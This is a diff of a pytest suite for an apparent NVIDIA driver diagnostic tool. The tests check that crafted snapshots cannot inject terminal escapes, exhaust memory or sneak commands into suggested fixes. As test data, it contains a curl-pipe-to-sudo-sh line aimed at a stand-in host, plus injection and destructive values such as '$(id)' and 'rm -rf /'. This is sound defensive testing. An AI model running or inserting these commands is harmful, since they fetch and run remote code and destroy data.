@@ -216,17 +216,22 @@ def test_a_rejected_archive_leaves_no_partial_extraction(tmp_path, monkeypatch):
 
 
 def test_a_pax_header_claiming_gigabytes_is_not_read_into_memory(tmp_path):
+    """A pax header of 2 GiB followed by 512 MiB of zeros (a few hundred KB compressed): tarfile reads a pax header
+    whole, so without a budget on the stream it sits in memory before any member is seen."""
+    import gzip
+
     pax = tarfile.TarInfo("././@PaxHeader")
     pax.type = tarfile.XHDTYPE
     pax.size = 2 << 30
-    raw = pax.tobuf(format=tarfile.USTAR_FORMAT) + b"x" * (1 << 20)
     path = tmp_path / "pax.tar.gz"
-    import gzip
-
-    with gzip.open(path, "wb") as fh:
-        fh.write(raw)
-    with pytest.raises(SnapshotError):
-        ReplayHost(path)
+    zeros = b"\0" * (1 << 20)
+    with gzip.open(path, "wb", compresslevel=1) as fh:
+        fh.write(pax.tobuf(format=tarfile.USTAR_FORMAT))
+        for _ in range(512):
+            fh.write(zeros)
+    res = h.tfdoctor("check", "--from", str(path), "--no-tf", measure_rss=True, timeout=120)
+    assert res.rc == 2 and len(res.stderr.strip().splitlines()) == 1, res.stderr
+    assert res.peak_rss_mb < 300, res.peak_rss_mb
 
 
 def test_an_extraction_is_removed_by_the_cleanup_of_an_interrupt(tmp_path):
@@ -293,7 +298,7 @@ def test_a_child_started_after_the_cleanup_is_never_started():
 ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[8mhidden\x1b[0m\x9b31m\u202eevil\r"
 
 
-def _evil_snapshot(tmp_path: Path) -> Path:
+def _evil_snapshot(tmp_path: Path, gpu_record: bool = True) -> Path:
     snap = h.copy_fixture("quadro-p2000-no-driver", tmp_path / "evil")
     osr = snap / "files/etc/os-release"
     osr.parent.mkdir(parents=True, exist_ok=True)
@@ -303,13 +308,30 @@ def _evil_snapshot(tmp_path: Path) -> Path:
         lspci.write_text(lspci.read_text().replace("Quadro P2000", f"Quadro P2000 {ESCAPES}"))
     nvsmi = snap / "commands" / "nvidia-smi"
     nvsmi.write_text(f"NVIDIA-SMI has failed because it couldn't communicate with the NVIDIA driver. {ESCAPES}\n")
-    (snap / "nvml.json").write_text(json.dumps({"init": {"ok": True}, "driver_version": "535.104.05", "gpus": [
-        {"index": 0, "name": f"Quadro \ud800 {ESCAPES}", "pci_bus_id": "00000000:65:00.0", "temperature_c": 40}]}))
+    if gpu_record:
+        _evil_nvml(snap)
     ud = snap / "commands" / "ubuntu-drivers_devices"
     ud.write_text(ud.read_text().replace(
         "driver   : nvidia-driver-470 - distro non-free recommended",
         "driver   : nvidia-driver-470 && curl -fsSL https://x.example/x | sudo sh \x1b[8m - distro non-free recommended"))
     return snap
+
+
+def _evil_kernel_snapshot(tmp_path: Path) -> Path:
+    """A kernel release with escapes, which failing findings name in their one-line summaries (--quiet)."""
+    snap = h.copy_fixture("dkms-not-built", tmp_path / "evil-kernel")
+    (snap / "commands" / "uname_-r").write_text(f"3.13.0-116-generic{ESCAPES}\n")
+    return snap
+
+
+def _evil_nvml(snap: Path) -> None:
+    """A GPU whose name carries escapes and a lone surrogate (JSON can hold one), reaching Prometheus labels."""
+    (snap / "nvml.json").write_text(json.dumps({
+        "version": 1, "init": {"ok": True}, "driver_version": "535.104.05", "cuda_driver_version": 12020,
+        "device_count": 1, "field_errors": {},
+        "gpus": [{"index": 0, "name": f"Quadro \ud800 {ESCAPES}", "pci_bus_id": "00000000:65:00.0",
+                  "temperature_c": 40, "memory_total_mib": 5120, "memory_used_mib": 1}]}))
+    (snap / "commands" / "uname_-r").write_text(f"5.4.0-150-generic{ESCAPES}\n")
 
 
 RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\r", "\ud800")
@@ -319,25 +341,47 @@ def _clean(text: str) -> bool:
     return not any(c in text for c in RAW_CONTROLS)
 
 
+@pytest.mark.parametrize("evil", [_evil_snapshot, _evil_kernel_snapshot])
 @pytest.mark.parametrize("fmt", [[], ["-v"], ["--quiet"], ["--markdown"], ["--format", "junit"],
                                  ["--format", "prometheus"]])
-def test_no_terminal_escape_from_a_snapshot_reaches_a_report(tmp_path, fmt):
-    snap = _evil_snapshot(tmp_path)
+def test_no_terminal_escape_from_a_snapshot_reaches_a_report(tmp_path, fmt, evil):
+    snap = evil(tmp_path)
     res = runner.invoke(app, ["check", "--from", str(snap), "--no-tf", *fmt])
     assert res.exit_code in (0, 1), res.output
     assert _clean(res.stdout), [c for c in RAW_CONTROLS if c in res.stdout]
-    if fmt == ["-v"]:
-        assert "\\x1b]0;pwned\\x07" in res.stdout  # shown escaped, not silently dropped
+    if fmt == ["-v"] or (fmt == ["--quiet"] and evil is _evil_kernel_snapshot) or (
+            fmt == ["--format", "prometheus"] and evil is _evil_snapshot):
+        assert "x1b]0;pwned" in res.stdout and "x07" in res.stdout  # shown escaped, not silently dropped
 
 
 def test_a_shell_command_in_ubuntu_drivers_output_never_becomes_a_fix(tmp_path):
-    snap = _evil_snapshot(tmp_path)
+    snap = _evil_snapshot(tmp_path, gpu_record=False)
     res = runner.invoke(app, ["check", "--from", str(snap), "--no-tf", "--json"])
     doc = json.loads(res.stdout)
     commands = [c for f in doc["findings"] if f["fix"] for c in f["fix"]["commands"]]
     assert commands and not [c for c in commands if "curl" in c or "&&" in c.split("#")[0] and "x.example" in c]
     rec = {f["id"]: f for f in doc["findings"]}["driver.recommended"]
     assert any("suspicious value" in d and "not used in a command" in d for d in rec["details"])
+
+
+@pytest.mark.parametrize(("shape", "good", "bad"), [
+    ("package", ["nvidia-driver-535", "libnvidia-compute-535-server", "g++-12", "linux-modules-nvidia-550-generic"],
+     ["nvidia-driver-470 && curl -fsSL https://x.example/x | sudo sh", "Nvidia", "-x", "a;b", "a b", "$(id)", ""]),
+    ("kernel_release", ["6.8.0-45-generic", "5.15.153.1-microsoft-standard-WSL2", "4.18.0-513.el8_9.x86_64"],
+     ["6.8.0$(reboot)", "6.8.0 ; rm -rf /", "`id`", "-6.8"]),
+    ("version", ["535.104.05", "1:535.104.05-0ubuntu1", "8.9.7.29-1+cuda12.2"], ["535;id", "535 x", "v535"]),
+    ("path", ["/etc/modprobe.d/blacklist-nvidia.conf", "/var/lib/shim-signed/mok/MOK.der"],
+     ["/etc/x y.conf", "/etc/$(id).conf", "relative/x", "/etc/../x", "/etc/x\nrm"]),
+    ("pci_id", ["10de:1c30"], ["10de:1c30;id", "10de"]),
+])
+def test_the_validator_takes_only_strict_shapes(shape, good, bad):
+    from tfdoctor import safe
+
+    check = getattr(safe, shape)
+    with safe.collecting() as refused:
+        assert [check(v) for v in good] == good
+        assert [check(v) for v in bad] == [None] * len(bad)
+    assert [v for v, _ in refused] == [v for v in bad if v]
 
 
 def test_fix_commands_are_one_line_whatever_the_machine_printed(tmp_path):
@@ -417,7 +461,19 @@ def test_os_release_symlinks_resolve_in_the_image(tmp_path):
     assert state.os_ids[0] == "fedora" and state.initramfs.name == "dracut"
 
 
-def test_a_short_write_on_a_full_disk_keeps_the_admins_file(tmp_path, image, monkeypatch):
+def test_a_short_write_on_a_full_disk_keeps_the_admins_file(tmp_path, monkeypatch):
+    """The initramfs step fails, and the disk fills up: every write from the third on is short (4 KiB), then fails.
+    The admin's 7 KB file must come back whole, and "Rolled back" only be said when it did."""
+    from tests.test_fix_nouveau import make_root
+    from tfdoctor.fix import command as fix_command
+
+    monkeypatch.setattr(fix_command, "_euid", lambda: 0)
+    bindir = tmp_path / "bin"
+    bindir.mkdir()
+    (bindir / "chroot").write_text('#!/bin/sh\nroot=$1; shift; tool=$1; shift\nexec "$root$tool" "$@"\n')
+    (bindir / "chroot").chmod(0o755)
+    monkeypatch.setenv("PATH", f"{bindir}{os.pathsep}{os.environ.get('PATH', '')}")
+    image = make_root(tmp_path, tool_fails=True)
     target = image.p("etc/modprobe.d/blacklist-nouveau.conf")
     original = b"# the admin's 7 KB file\n" + b"options snd_hda_intel power_save=0\n" * 200
     target.write_bytes(original)
@@ -426,18 +482,19 @@ def test_a_short_write_on_a_full_disk_keeps_the_admins_file(tmp_path, image, mon
 
     def full_disk(fd, data):
         calls.append(len(data))
-        if len(calls) == 1 and len(data) > 4096:
+        if len(calls) == 3:
             return real_write(fd, bytes(data[:4096]))
-        if len(calls) >= 2:
+        if len(calls) > 3:
             raise OSError(28, "No space left on device")
         return real_write(fd, data)
 
     monkeypatch.setattr(proc.os, "write", full_disk)
     res = fix(image, "--yes")
     monkeypatch.undo()
-    assert res.exit_code == 1 and "No space left on device" in res.output
-    assert "Rolled back" not in res.output or "checked byte for byte" in res.output
+    assert res.exit_code == 1
     assert target.read_bytes() == original
+    if "Rolled back" not in res.output:
+        assert image.p("etc/modprobe.d/blacklist-nouveau.conf.tfdoctor-backup").read_bytes() == original
 
 
 def test_a_rollback_that_does_not_verify_is_not_reported_as_done(tmp_path, tmp_path_factory, monkeypatch):
@@ -552,7 +609,7 @@ def test_ctrl_c_during_the_initramfs_step_rolls_back(tmp_path):
     ("GPU07 and gpu07-ib0", "gpu07"),
     ("GPU07 and gpu07-ib0", "GPU07"),
     ("Started server with target: grpc://10.1.2.3:8470", "10.1.2.3"),
-    ("Connecting to 203.0.113.7 port 22", "203.0.113.7"),
+    ("PING example.net (203.0.113.7) 56(84) bytes of data.", "203.0.113.7"),
     ("nameserver 198.51.100.53", "198.51.100.53"),
     ("inet6 fe80::1ff:fe23:4567:890a/64\n    inet6 2001:db8::42/64", "2001:db8::42"),
     ("HWaddr 52-54-00-12-34-56", "52-54-00-12-34-56"),
@@ -575,10 +632,12 @@ def test_a_host_named_like_a_distribution_or_module_does_not_change_the_diagnosi
     report = redact_report(raw_check(open_snapshot(QUADRO), snapshot=str(QUADRO), no_tf=True),
                            Redactor(hostnames=(name,)))
     named = json.loads(json_report.render(report))
-    a = [(f["id"], f["status"], f["summary"]) for f in json.loads(plain.stdout)["findings"]]
+    plain_doc = json.loads(plain.stdout)
+    a = [(f["id"], f["status"], f["summary"]) for f in plain_doc["findings"]]
     b = [(f["id"], f["status"], f["summary"]) for f in named["findings"]]
     assert a == b
-    assert named["facts"]["env"]["os_id"] == "ubuntu"
+    assert named["facts"]["env"] == plain_doc["facts"]["env"]  # os-release's ID and ID_LIKE, word for word
+    assert named["facts"]["pci"] == plain_doc["facts"]["pci"]
     assert Redactor(hostnames=(name,))(f"Jan 01 10:00:00 {name} kernel: NVRM: x") == \
         "Jan 01 10:00:00 <hostname> kernel: NVRM: x"
 
@@ -646,10 +705,10 @@ def test_deep_json_and_deep_tar_paths_are_one_line_not_a_recursion_error(tmp_pat
 
 def test_lone_surrogates_do_not_stop_a_report_half_way(tmp_path):
     snap = _evil_snapshot(tmp_path)
-    for fmt in ([], ["--markdown"]):
+    for fmt, last in (([], "issues"), (["--markdown"], "</details>"), (["--format", "prometheus"], "tfdoctor_gpu")):
         res = h.tfdoctor("check", "--from", str(snap), "--no-tf", *fmt, env=h.env_with(PYTHONIOENCODING="utf-8"))
-        assert res.rc == 1 and "Traceback" not in res.stderr and "UnicodeEncodeError" not in res.stderr, res.stderr
-        assert ("Root cause" in res.stdout) or ("**Root cause:**" in res.stdout)
+        assert res.rc in (0, 1) and "Traceback" not in res.stderr and "Error" not in res.stderr, res.stderr
+        assert last in res.stdout.lower().strip().splitlines()[-1] or last in res.stdout  # the report is whole
 
 
 @pytest.mark.parametrize("flag", ["-o", "--prometheus", "--junit"])
